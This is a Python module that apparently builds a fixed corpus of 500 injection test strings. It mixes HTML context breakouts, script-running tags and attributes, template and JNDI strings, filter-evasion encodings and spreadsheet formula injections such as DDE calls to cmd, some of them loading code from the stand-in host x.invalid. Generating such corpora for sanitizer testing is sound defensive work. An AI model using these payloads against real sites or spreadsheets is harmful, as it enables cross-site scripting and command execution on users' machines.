"""Five hundred things that somebody could write to make a page run them, each with its number.

They are put together of a place to break out of, something that runs, and a way to spell it. It
plants nothing and judges nothing.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator, Sequence

COUNT = 500
OUT_OF = (
    "",
    '">',
    "'>",
    "x onx=1>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</option></select>",
    "</svg>",
    "`;}}",
    "\\'>",
)
"""What ends the text, attribute, box, title, script, style, comment or list it may stand in."""
RUNS = (
    "<script>{}</script>",
    "<script src=//x.invalid/{n}></script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<a href=javascript:{}>Les mer</a>",
    "<form action=javascript:{}><button>Send</button></form>",
    "<button formaction=javascript:{}>Send</button>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//x.invalid/{n}/>",
    "<link rel=stylesheet href=//x.invalid/{n}.css>",
    "<style>@import'//x.invalid/{n}';</style>",
    "<img src=//x.invalid/{n}.png>",
    "<marquee onstart={}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<p style='animation:x' onanimationstart={}>x</p>",
    "<template><script>{}</script></template>",
    "x onmouseover={} autofocus onfocus={} x=",
    '" autofocus onfocus={} x="',
    "' onclick={} x='",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    ";{};//",
    "';{};'",
    '";{};"',
    "`${{{}}}`",
    "{{{{ {} }}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{@html '<img src=x onerror={}>'}}",
    "{{% import os %}}{{{{ 7*7 }}}}{}",
    "${{jndi:x}}{}",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
)
FORMULAS = (
    '=HYPERLINK("//x.invalid","{n}")',
    "=cmd|' /C calc'!A{n}",
    "+1+cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+1)*{n}",
    "\u200b=1+{n}",
    "\ufeff=1+{n}",
    "＝1+{n}",
    "%0A=1+{n}",
    '=IMPORTXML(CONCAT("//x.invalid/",A{n}),"//a")',
    "|=1+{n}",
    "  =1+{n}",
)


def _mixed(text: str) -> str:
    """Spell tags and names in large and small letters, and leave the call alone."""
    head, call, tail = text.partition("hit(")
    swap = [s.upper() if place % 2 else s for place, s in enumerate(head)]
    return "".join(swap) + call + tail


SPELLINGS: Sequence[Callable[[str], str]] = (
    lambda text: text,
    _mixed,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("javascript:", "java&#9;script:").replace("=x ", "=x\u00a0"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("hit(", "&#104;it("),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("hit(", "top['h'+'it']("),
    lambda text: text.replace("<", "<\u200b", 1) + "<",
    lambda text: text.replace("script", "scr<script>ipt"),
)


def payloads() -> list[str]:
    """Give all of them, in the same order each time; none is longer than 200 signs."""
    found = [text.format(n=number) for number, text in enumerate(FORMULAS)]
    for out_of, spelled, runs in _crossed(OUT_OF, SPELLINGS, RUNS):
        if len(found) == COUNT:
            return found
        number = len(found)
        call = f"hit({number})"
        text = out_of + spelled(runs.replace("{n}", str(number)).format(*[call] * 2))
        if len(text) <= 200:
            found.append(text)
    raise AssertionError("too few of them")


def _crossed(
    first: Sequence[str], second: Sequence[Callable[[str], str]], third: Sequence[str]
) -> Iterator[tuple[str, Callable[[str], str], str]]:
    """Walk through the combinations so that each part comes about equally often."""
    for number in itertools.count():
        yield (
            first[number % len(first)],
            second[(number + number // len(first)) % len(second)],
            third[(number * 7 + number // len(third)) % len(third)],
        )
